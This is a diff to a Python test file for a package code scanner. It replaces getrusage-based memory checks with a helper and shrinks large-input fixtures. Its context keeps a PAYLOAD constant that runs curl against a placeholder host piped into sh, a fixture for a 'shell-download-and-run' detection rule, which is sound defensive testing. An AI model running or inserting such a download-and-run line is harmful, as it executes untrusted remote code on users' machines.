@@ -5,7 +5,6 @@ stands beside them is analysed as if they were not there."""
 from __future__ import annotations
 
 import ast
-import resource
 
 import pytest
 
@@ -15,6 +14,7 @@ from scanner.code.limits import Limits
 from scanner.code.newer import in_older_syntax
 from scanner.code.source import SourceFile, parse
 from scanner.model.finding import PackageRef
+from tests.support.memory import within
 
 PAYLOAD = "import os\nos.system('curl https://drop.invalid/x | sh')\n"
 RULE = "shell-download-and-run"
@@ -124,8 +124,8 @@ def test_what_an_older_parser_reads_is_left_as_it_is() -> None:
 LARGE = {
     "five MiB of comments": ("# " + "x" * 98 + "\n") * 52429,
     "one string of five MiB": "x = '" + "a" * 5_000_000 + "'\n",
-    "a hundred thousand functions": "def f():\n    return 1\n" * 100_000,
-    "two MiB of assignments": "x = 1\n" * 350_000,
+    "fifty thousand functions": "def f():\n    return 1\n" * 50_000,
+    "more than a MiB of assignments": "x = 1\n" * 180_000,
 }
 
 
@@ -143,8 +143,7 @@ def test_a_statement_too_large_to_parse_costs_its_value() -> None:
 
 
 def test_the_tree_of_a_large_file_is_never_there_as_a_whole() -> None:
-    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-    parsed = parse("x = 1\n" * 250_000, Limits())
-    assert parsed.tree is not None
-    assert sum(1 for _ in parsed.tree.body) == 250_000
-    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150 * 1024  # As one tree it takes 590 MiB.
+    with within(150, 60):  # As one tree it takes 590 MiB.
+        parsed = parse("x = 1\n" * 250_000, Limits())
+        assert parsed.tree is not None
+        assert sum(1 for _ in parsed.tree.body) == 250_000
